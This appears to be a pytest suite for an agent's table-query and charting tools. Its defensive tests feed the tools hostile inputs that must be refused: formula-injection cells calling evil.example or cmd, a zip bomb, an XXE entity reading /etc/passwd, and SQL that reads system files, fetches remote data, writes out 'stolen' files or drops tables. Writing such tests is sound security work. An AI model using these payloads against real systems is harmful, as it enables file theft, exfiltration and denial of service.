"""Tables are described, asked and drawn in a sealed process, whatever their bytes and the SQL want."""

import io
import json
import zipfile
from datetime import date, datetime

import openpyxl
import pytest

from agent_analysis.tools import chart_table, describe_table, query_table
from flowloom_agentkit.errors import ToolFailedError
from flowloom_agentkit.reach import StepSoFar, ToolUse
from flowloom_agentkit.testing.context import tool_context
from flowloom_agentkit.testing.files import InMemoryFiles
from flowloom_agentkit.tools import AgentTool, ToolContext
from flowloom_contracts.base import JsonObject

SALES = (
    b"region,amount,day\nnorth,10,2026-01-01\nsouth,20.5,2026-01-02\nnorth,,2026-01-03\nsouth,5,2026-01-04\n"
)


def sheet(*rows: list[object]) -> bytes:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    saved = io.BytesIO()
    book.save(saved)
    return saved.getvalue()


def context(**more: object) -> ToolContext:
    found: ToolContext = tool_context(**more)  # type: ignore[arg-type]  # the parts of a context, by name
    return found


def over(content: bytes, path: str = "t.csv") -> ToolContext:
    return context(files=InMemoryFiles({path: content}))


async def asked(tool: AgentTool, of: ToolContext, **arguments: object) -> JsonObject:
    answer = await tool.call(of, {"table": "t.csv", **arguments})  # type: ignore[dict-item]  # plain JSON
    assert isinstance(answer, dict)
    return answer


async def test_describes_a_table() -> None:
    about = await asked(describe_table, over(SALES), group_by="region")
    assert (about["id"], about["rows"]) == ("Q1", 4)
    by_name = {column["name"]: column for column in about["columns"]}  # type: ignore[index, union-attr, call-overload]  # a list of objects
    assert (by_name["amount"]["type"], by_name["amount"]["nulls"]) == ("DOUBLE", 1)
    assert by_name["amount"]["quantiles"] == [7.5, 10.0, 15.25]
    assert (by_name["amount"]["sum"], by_name["day"]["type"]) == (35.5, "DATE")
    assert about["groups"] == {
        "columns": ["region", "rows", "mean of amount"],
        "rows": [["north", 2, 10.0], ["south", 2, 12.75]],
    }


async def test_finds_what_goes_together() -> None:
    rows = json.dumps([{"x": n, "y": 2 * n, "z": -n, "name": f"n{n}"} for n in range(10)]).encode()
    about = await asked(describe_table, over(rows))
    found = {tuple(one["columns"]): one["correlation"] for one in about["correlations"]}  # type: ignore[index, union-attr, call-overload, arg-type]  # a list of objects
    assert found == {
        ("x", "y"): pytest.approx(1),
        ("x", "z"): pytest.approx(-1),
        ("y", "z"): pytest.approx(-1),
    }


async def test_answers_queries_and_numbers_the_answers() -> None:
    sql = "select region, sum(amount) as total from data group by 1 order by 1"
    so_far = StepSoFar(uses=[ToolUse("table.query", {}, {}), ToolUse("files.list", {}, [])])
    answer = await asked(query_table, context(files=InMemoryFiles({"t.csv": SALES}), so_far=so_far), sql=sql)
    assert answer == {
        "id": "Q2",
        "columns": ["region", "total"],
        "rows": [["north", 10.0], ["south", 25.5]],
        "row_count": 2,
        "is_cut": False,
    }


async def test_takes_tables_from_the_document() -> None:
    given: JsonObject = {"tables": {"sales": [{"a": 1}, {"a": 41}], "text": "a;b\n1;x\n"}}
    of = context(so_far=StepSoFar(given=given))
    answer = await query_table.call(of, {"table": "sales", "sql": "select sum(a) from data"})
    assert isinstance(answer, dict) and answer["rows"] == [[42]]
    other = await query_table.call(of, {"table": "text", "sql": "select a, b from data"})
    assert isinstance(other, dict) and other["rows"] == [[1, "x"]]
    with pytest.raises(ToolFailedError, match="Tables that were given: 'sales', 'text'"):
        await query_table.call(of, {"table": "nope", "sql": "select 1"})


async def test_reads_sheets_with_computed_values_only() -> None:
    content = sheet(
        ["name", "when", "n", "formula"],
        ["a", date(2026, 1, 1), 1, '=WEBSERVICE("http://evil.example")'],
        ["=cmd|' /C calc'!A0", datetime.fromisoformat("2026-01-02T03:00:00"), 2.5, "=1+1"],
    )
    answer = await asked(query_table, over(content), sql="select * from data")
    assert answer["columns"] == ["name", "when", "n", "formula"]
    assert answer["rows"] == [
        ["a", "2026-01-01T00:00:00", 1.0, None],
        [None, "2026-01-02T03:00:00", 2.5, None],
    ]
    with pytest.raises(ToolFailedError, match="no sheet 'Other'; the file has 'Sheet'"):
        await asked(query_table, over(content), sql="select 1", sheet="Other")


async def test_keeps_cells_that_look_like_formulas_as_texts() -> None:
    content = b"a,b\n=1+1,007\n+SUM(A1),08\n@x,1\n"
    answer = await asked(query_table, over(content), sql="select a, b from data")
    assert answer["rows"] == [["=1+1", "007"], ["+SUM(A1)", "08"], ["@x", "1"]]


@pytest.mark.parametrize(
    ("content", "path"),
    [
        (b"\xef\xbb\xbfa;b\n1;2\n", "lies.xlsx"),
        ("a\tb\n1\t2\n".encode("utf-16"), "t.csv"),
        (b'[{"a": 1, "b": 2}]', "t.csv"),
        (b'{"rows": [{"a": 1, "b": 2}], "count": 1}', "t.csv"),
        (sheet(["a", "b"], [1, 2]), "lies.csv"),
    ],
)
async def test_believes_bytes_and_no_names(content: bytes, path: str) -> None:
    of = over(content, path)
    answer = await query_table.call(of, {"table": path, "sql": "select a + b from data"})
    assert isinstance(answer, dict) and answer["rows"] == [[3]]


def _bomb() -> bytes:
    saved = io.BytesIO()
    with zipfile.ZipFile(saved, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"0" * 250_000_000)
    return saved.getvalue()


def _archive(name: str, body: str = "x") -> bytes:
    saved = io.BytesIO()
    with zipfile.ZipFile(saved, "w") as archive:
        archive.writestr(name, body)
    return saved.getvalue()


def _entities() -> bytes:
    book = sheet(["a"], [1])
    saved = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(book)) as old, zipfile.ZipFile(saved, "w") as new:
        for entry in old.infolist():
            body = old.read(entry)
            if entry.filename == "xl/worksheets/sheet1.xml":
                body = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
            new.writestr(entry.filename, body)
    return saved.getvalue()


HOSTILE = {
    "bomb": (_bomb, "would unpack to 250,000,011 bytes"),
    "not a sheet": (lambda: _archive("../../etc/passwd"), "an archive and no XLSX"),
    "damaged": (lambda: sheet(["a"])[:200], "damaged archive"),
    "broken xml": (lambda: _archive("xl/workbook.xml", "<"), r"damaged or no XLSX"),
    "entities": (_entities, "damaged or no XLSX"),
    "million columns": (lambda: b",".join(b"c%d" % n for n in range(1_000_000)), "more than 500 columns"),
    "million columns as JSON": (
        lambda: json.dumps([{f"c{n}": 1 for n in range(100_000)}]).encode(),
        "500 columns",
    ),
    "wide sheet": (lambda: sheet([f"c{n}" for n in range(600)]), "more than 500 columns"),
    "too long": (lambda: b"a\n" + b"1\n" * 300_001, "more than 300,000 rows"),
    "deep": (lambda: b"[" * 100_000, "begins like JSON and is not"),
    "picture": (lambda: b"\x89PNG\r\n\x1a\n\0\0\0", "neither CSV nor JSON nor XLSX"),
    "empty": (lambda: b"", "no column"),
    "huge cell": (lambda: b'a\n"' + b"x" * 200_000 + b'"\n', "not CSV: field larger"),
}


@pytest.mark.parametrize("name", HOSTILE)
async def test_refuses_hostile_files(name: str) -> None:
    make, message = HOSTILE[name]
    with pytest.raises(ToolFailedError, match=message):
        await asked(query_table, over(make()), sql="select 1")


@pytest.mark.parametrize(
    "sql",
    [
        "select * from read_csv('/etc/passwd')",
        "select * from read_text('/etc/passwd')",
        "select * from '/etc/passwd'",
        "select * from glob('/*')",
        "select * from read_json('https://evil.example/x.json')",
        "select * from sqlite_scan('/x.db', 't')",
        "select getenv('HOME')",
        "copy data to '/tmp/stolen.csv'",
        "copy (select 1) to '/dev/stdout'",
        "attach '/tmp/x.db'",
        "install httpfs",
        "load httpfs",
        "set memory_limit = '100GB'",
        "set enable_external_access = true",
        "reset lock_configuration",
        "pragma enable_external_access",
        "export database '/tmp/x'",
        "create table x as select 1",
        "drop table data",
        "select 1; drop table data",
        "create secret s (type s3)",
        "call pragma_database_size()",
        "select * from other_table",
        "nonsense",
        "",
    ],
)
async def test_sql_reaches_the_table_and_nothing_else(sql: str) -> None:
    with pytest.raises(ToolFailedError, match=r"nothing else|cannot be answered|not SQL"):
        await asked(query_table, over(SALES), sql=sql)


@pytest.mark.timeout(90)
@pytest.mark.parametrize(
    "sql",
    [
        "select count(*) from range(10000000) a, range(10000000) b where hash(a.range, b.range) = 7",
        "select list(a.range order by hash(a.range)) from range(100000000) a",
        "select repeat('x', 2000000000)",
        "with recursive r(n) as (select 1 union all select n + 1 from r) select count(*) from r",
    ],
)
async def test_queries_without_end_end(sql: str) -> None:
    with pytest.raises(ToolFailedError, match=r"ask for less|cannot be answered"):
        await asked(query_table, over(SALES), sql=sql)


async def test_cuts_long_answers_and_says_so() -> None:
    answer = await asked(query_table, over(SALES), sql="select r.range from range(1000) r")
    assert (answer["row_count"], answer["is_cut"]) == (200, True)
    long = await asked(query_table, over(SALES), sql="select repeat('x', 50000) from range(10)")
    assert len(str(long["rows"])) < 70_000


TITLE = "</text><script>alert(1)</script> $\\frac{1}{0}$ \0\x1b"
TOTALS = 'select region, sum(amount) as "<b>&total" from data group by 1 order by 1'


@pytest.mark.parametrize("ending", ["svg", "png"])
async def test_draws_the_same_picture_each_time(ending: str) -> None:
    pictures = []
    for _ in range(2):
        of = over(SALES)
        drawn = await asked(chart_table, of, sql=TOTALS, path=f"charts/a.{ending}", title=TITLE)
        assert (drawn["path"], drawn["rows"]) == (f"charts/a.{ending}", [["north", 10.0], ["south", 25.5]])
        pictures.append((await of.files.read(f"charts/a.{ending}")).content)
    assert pictures[0] == pictures[1]
    if ending == "svg":
        text = pictures[0].decode()
        assert "<script" not in text and "&lt;script&gt;" in text and "&lt;b&gt;&amp;total" in text
    else:
        assert pictures[0].startswith(b"\x89PNG")


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"path": "../a.svg"}, "cannot name a file"),
        ({"path": "a.html"}, "has to end in .svg or .png"),
        ({"kind": "pie3d"}, "one of bar, line, scatter"),
        ({"sql": "select amount, region from data"}, "'north' is no number"),
        ({"sql": "select region from data"}, "1 to 8 columns"),
        ({"sql": "select region, amount from data where false"}, "no rows to draw"),
        ({"sql": "select range, range from range(501)"}, "at most 500 rows"),
    ],
)
async def test_says_why_it_draws_nothing(changes: JsonObject, message: str) -> None:
    with pytest.raises(ToolFailedError, match=message):
        await asked(chart_table, over(SALES), **{"sql": TOTALS, "path": "a.svg", **changes})
